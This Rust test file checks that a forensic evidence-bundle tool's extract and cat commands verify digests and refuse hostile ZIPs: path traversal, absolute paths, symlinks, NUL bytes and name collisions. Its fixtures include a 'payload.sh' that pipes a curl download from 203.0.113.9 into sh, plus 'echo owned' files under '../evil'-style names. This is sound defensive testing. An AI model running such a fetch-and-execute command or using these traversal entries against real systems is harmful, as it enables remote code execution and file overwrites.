//! `extract` and `cat`: verified evidence out of a bundle, and hostile bundles that never write
//! outside the output directory.

use crate::util::*;
use std::collections::BTreeSet;
use std::io::{Cursor, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

/// Every path below `root`, relative, sorted (symlinks not followed).
fn tree(root: &Path) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    let mut todo = vec![root.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            out.insert(p.strip_prefix(root).unwrap().to_string_lossy().into_owned());
            if p.symlink_metadata().unwrap().is_dir() {
                todo.push(p);
            }
        }
    }
    out
}

fn report(dir: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(dir.join(".forensic-extract.json")).unwrap()).unwrap()
}

fn sha256sum_check(dir: &Path) -> std::process::Output {
    Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(dir)
        .output()
        .expect("sha256sum runs")
}

/// A ZIP of these members, written with the zip crate (which does not judge names).
fn zip_of(members: &[(String, Vec<u8>)], symlinks: &[(&str, &str)]) -> Vec<u8> {
    let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, content) in members {
        if name == "manifest.cbor" {
            for (link, target) in symlinks {
                z.add_symlink(*link, *target, stored).unwrap();
            }
        }
        z.start_file(name.as_str(), stored).unwrap();
        z.write_all(content).unwrap();
    }
    z.finish().unwrap().into_inner()
}

#[test]
fn extracting_a_verified_bundle_gives_a_copy_sha256sum_confirms() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let dir = checklist_dir(root);
    // A setuid file and a symlink among the evidence.
    std::fs::set_permissions(dir.join("files/miner"), std::fs::Permissions::from_mode(0o4755)).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", dir.join("files/passwd-link")).unwrap();
    let (key, _) = keygen(root, "responder");
    let bundle = root.join("b.zip");
    assert_eq!(code(&seal(&dir, &bundle, &key, &[])), 0);
    let out = root.join("out");
    let o = run(&["extract", s(&bundle), "-o", s(&out)]);
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    // The text output says, under each member's name, what was not restored.
    let text = stdout(&o);
    let after = |name: &str| {
        let at = text
            .find(&format!("  {name}:\n"))
            .unwrap_or_else(|| panic!("{name} not named: {text}"));
        text[at..].lines().nth(1).unwrap_or_default().to_string()
    };
    assert!(
        after("5-filesystem/files/miner").contains("mode 4755 has the setuid or setgid bit; not restored"),
        "{text}"
    );
    assert!(
        after("5-filesystem/files/passwd-link").contains("symbolic link to /etc/passwd; written as a regular file"),
        "{text}"
    );
    let check = sha256sum_check(&out);
    assert!(
        check.status.success(),
        "{}{}",
        String::from_utf8_lossy(&check.stdout),
        String::from_utf8_lossy(&check.stderr)
    );
    let sums = std::fs::read_to_string(out.join("SHA256SUMS")).unwrap();
    let bytes = std::fs::read(&bundle).unwrap();
    let members: Vec<(String, Vec<u8>)> = contents(&bytes).into_iter().filter(|(n, _)| n.contains('/')).collect();
    assert_eq!(sums.lines().count(), members.len());
    for (name, content) in &members {
        let p = out.join(name);
        let md = p.symlink_metadata().unwrap();
        assert!(md.is_file(), "{name} is not a regular file");
        assert_eq!(md.permissions().mode() & 0o7777 & !0o022, 0o644, "{name}");
        assert_eq!(&std::fs::read(&p).unwrap(), content, "{name}");
    }
    let v = report(&out);
    assert_eq!(v["forced"], false);
    assert_eq!(v["complete"], true);
    assert_eq!(v["verification"]["verified"], true);
    let member = |n: &str| {
        v["members"]
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["name"] == n)
            .unwrap()
            .clone()
    };
    let miner = member("5-filesystem/files/miner");
    assert_eq!(miner["original"]["meta"]["mode"], "4755");
    assert!(miner["notes"][0].as_str().unwrap().contains("setuid"), "{miner}");
    let link = member("5-filesystem/files/passwd-link");
    assert_eq!(link["original"]["meta"]["type"], "symlink");
    assert!(link["notes"][0].as_str().unwrap().contains("/etc/passwd"), "{link}");
    // Nothing but the members, SHA256SUMS and the report.
    let mut want: BTreeSet<String> = ["SHA256SUMS", ".forensic-extract.json"].map(String::from).into();
    for (name, _) in &members {
        let mut prefix = String::new();
        for seg in name.split('/') {
            if !prefix.is_empty() {
                prefix.push('/');
            }
            prefix.push_str(seg);
            want.insert(prefix.clone());
        }
    }
    assert_eq!(tree(&out), want);
    // Never into a directory that is not empty, never over a file.
    let o = run(&["extract", s(&bundle), "-o", s(&out)]);
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    // Filters: one section, and a glob within it.
    let some = root.join("some");
    let o = run(&[
        "extract",
        s(&bundle),
        "-o",
        s(&some),
        "--section",
        "filesystem",
        "--path",
        "files/*",
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let files: Vec<String> = tree(&some).into_iter().filter(|p| some.join(p).is_file()).collect();
    assert_eq!(
        files,
        [
            ".forensic-extract.json",
            "5-filesystem/files/miner",
            "5-filesystem/files/passwd-link",
            "5-filesystem/files/payload.sh",
            "SHA256SUMS"
        ]
    );
    assert!(sha256sum_check(&some).status.success());
}

#[test]
fn a_bundle_that_fails_is_refused_and_force_is_recorded() {
    let tmp = tempfile::tempdir().unwrap();
    let (bundle, _, _) = sealed_bundle(tmp.path());
    let mut m = contents(&std::fs::read(&bundle).unwrap());
    let i = m.iter().position(|(n, _)| n == "6-podspec/pod-spec.yaml").unwrap();
    // Same length, one byte changed: extracted with --force, but not the sealed content.
    let at = m[i].1.iter().position(|&b| b == b'7').unwrap();
    m[i].1[at] = b'8';
    let bad = tmp.path().join("bad.zip");
    std::fs::write(&bad, zip_of(&m, &[])).unwrap();
    let out = tmp.path().join("out");
    let o = run(&["extract", s(&bad), "-o", s(&out)]);
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    assert!(stderr(&o).contains("digest-mismatch"), "{}", stderr(&o));
    assert!(!out.exists(), "nothing written when refused");
    let o = run(&["extract", s(&bad), "-o", s(&out), "--force"]);
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    let v = report(&out);
    assert_eq!(v["forced"], true);
    assert_eq!(v["verification"]["verified"], false);
    assert_eq!(v["verification"]["failures"][0]["class"], "digest-mismatch");
    // SHA256SUMS holds the sealed digests: the check finds the changed member.
    let check = sha256sum_check(&out);
    assert!(!check.status.success());
    let text = String::from_utf8_lossy(&check.stdout);
    assert!(text.contains("6-podspec/pod-spec.yaml: FAILED"), "{text}");
    assert_eq!(text.matches(": FAILED").count(), 1, "{text}");
    // cat refuses the changed member and writes nothing (exit 1, as for a CRC-32 mismatch
    // below); other members still stream.
    let o = run(&["cat", s(&bad), "6-podspec/pod-spec.yaml"]);
    assert_eq!(code(&o), 1);
    assert!(o.stdout.is_empty());
    assert!(stderr(&o).contains("the manifest says"), "{}", stderr(&o));
    let o = run(&["cat", s(&bad), "5-filesystem/files/payload.sh"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(o.stdout, b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n");
    let o = run(&["cat", s(&bundle), "6-podspec/pod-spec.yaml"]);
    assert_eq!((code(&o), o.stdout.starts_with(b"apiVersion: v1\n")), (0, true));
    assert_eq!(code(&run(&["cat", s(&bundle), "6-podspec/nope"])), 2);
}

/// Patches every occurrence of `from` in `bytes` to `to` (same length): names in local headers
/// and the central directory, where the zip crate would refuse to write them.
fn patch(bytes: &mut [u8], from: &[u8], to: &[u8]) -> usize {
    assert_eq!(from.len(), to.len());
    let mut n = 0;
    let mut i = 0;
    while i + from.len() <= bytes.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            n += 1;
            i += from.len();
        } else {
            i += 1;
        }
    }
    n
}

#[test]
fn hostile_bundles_never_write_outside_the_output_directory() {
    let tmp = tempfile::tempdir().unwrap();
    let (bundle, _, _) = sealed_bundle(tmp.path());
    let good = contents(&std::fs::read(&bundle).unwrap());
    let payload = b"#!/bin/sh\necho owned\n".to_vec();
    let with = |extra: &[&str]| -> Vec<(String, Vec<u8>)> {
        let mut m = good.clone();
        let at = m.len() - 3;
        for (k, name) in extra.iter().enumerate() {
            m.insert(at + k, (name.to_string(), payload.clone()));
        }
        m
    };
    let mut cases: Vec<(&str, Vec<u8>)> = vec![
        ("dotdot", zip_of(&with(&["../evil", "5-filesystem/../../evil"]), &[])),
        (
            "absolute",
            zip_of(&with(&["/tmp/evil-absolute", "5-filesystem//evil"]), &[]),
        ),
        (
            "symlink",
            zip_of(&with(&["5-filesystem/link/evil"]), &[("5-filesystem/link", "/tmp")]),
        ),
    ];
    // NUL and a duplicate name: written with placeholders, then patched byte for byte.
    let mut nul = zip_of(&with(&["5-filesystem/evilXnul"]), &[]);
    assert_eq!(patch(&mut nul, b"evilXnul", b"evil\0nul"), 2);
    cases.push(("nul", nul));
    let mut dup = zip_of(&with(&["5-filesystem/files/minex"]), &[]);
    assert_eq!(
        patch(&mut dup, b"5-filesystem/files/minex", b"5-filesystem/files/miner"),
        2
    );
    cases.push(("duplicate", dup));
    for (name, bytes) in cases {
        let root = tmp.path().join(name);
        std::fs::create_dir(&root).unwrap();
        let bundle = root.join("hostile.zip");
        std::fs::write(&bundle, &bytes).unwrap();
        let (c, cl, _) = {
            let o = run(&["verify", s(&bundle), "--json"]);
            (code(&o), classes(&json(&o)), ())
        };
        assert_eq!(c, 1, "{name}: verifies: {cl:?}");
        let out = root.join("work/out");
        let o = run(&["extract", s(&bundle), "-o", s(&out)]);
        assert_eq!(code(&o), 1, "{name}: {}", stderr(&o));
        assert!(!out.exists(), "{name}: written although refused");
        let o = run(&["extract", s(&bundle), "-o", s(&out), "--force"]);
        assert_eq!(code(&o), 1, "{name}: {}{}", stdout(&o), stderr(&o));
        assert!(stderr(&o).contains("skipped"), "{name}: {}", stderr(&o));
        // Outside the output directory: only what was there before.
        let outside: BTreeSet<String> = tree(&root)
            .into_iter()
            .filter(|p| !p.starts_with("work/out/"))
            .collect();
        assert_eq!(
            outside,
            ["hostile.zip", "work", "work/out"].map(String::from).into(),
            "{name}"
        );
        assert!(!Path::new("/tmp/evil-absolute").exists());
        // Inside: regular files and directories only, none of them the hostile content but in
        // a section directory, and every extracted file checks.
        for p in tree(&out) {
            let md = out.join(&p).symlink_metadata().unwrap();
            assert!(
                md.is_file() || md.is_dir(),
                "{name}: {p} is neither a file nor a directory"
            );
            assert!(!p.contains("evil"), "{name}: {p} was written");
        }
        assert!(report(&out)["forced"] == true, "{name}");
        assert!(sha256sum_check(&out).status.success(), "{name}");
    }
}

#[test]
fn names_that_collide_after_case_folding_are_caught() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let dir = checklist_dir(root);
    write(&dir, "files/Miner", b"the other miner\n");
    write(&dir, "files/cafe\u{301}.txt", b"nfd\n");
    write(&dir, "files/caf\u{e9}.txt", b"nfc\n");
    let (key, _) = keygen(root, "responder");
    let bundle = root.join("b.zip");
    assert_eq!(code(&seal(&dir, &bundle, &key, &[])), 0);
    assert_eq!(
        code(&run(&["verify", s(&bundle)])),
        0,
        "a valid bundle on a case-sensitive system"
    );
    let out = root.join("out");
    // Exit 3: the bundle verifies, but members were left out (README, "Exit codes").
    let o = run(&["extract", s(&bundle), "-o", s(&out)]);
    assert_eq!(code(&o), 3, "{}{}", stdout(&o), stderr(&o));
    let err = stderr(&o);
    assert_eq!(err.matches("skipped").count(), 2, "{err}");
    assert!(err.contains("collides with member"), "{err}");
    // One of each pair was written, the other skipped; nothing overwritten.
    let files: Vec<String> = tree(&out.join("5-filesystem/files")).into_iter().collect();
    assert_eq!(
        files.iter().filter(|f| f.to_lowercase() == "miner").count(),
        1,
        "{files:?}"
    );
    assert_eq!(files.iter().filter(|f| f.starts_with("caf")).count(), 1, "{files:?}");
    assert!(sha256sum_check(&out).status.success());
    let v = report(&out);
    assert_eq!(
        (v["forced"].clone(), v["complete"].clone(), v["skipped"].clone()),
        (false.into(), false.into(), 2.into())
    );
}
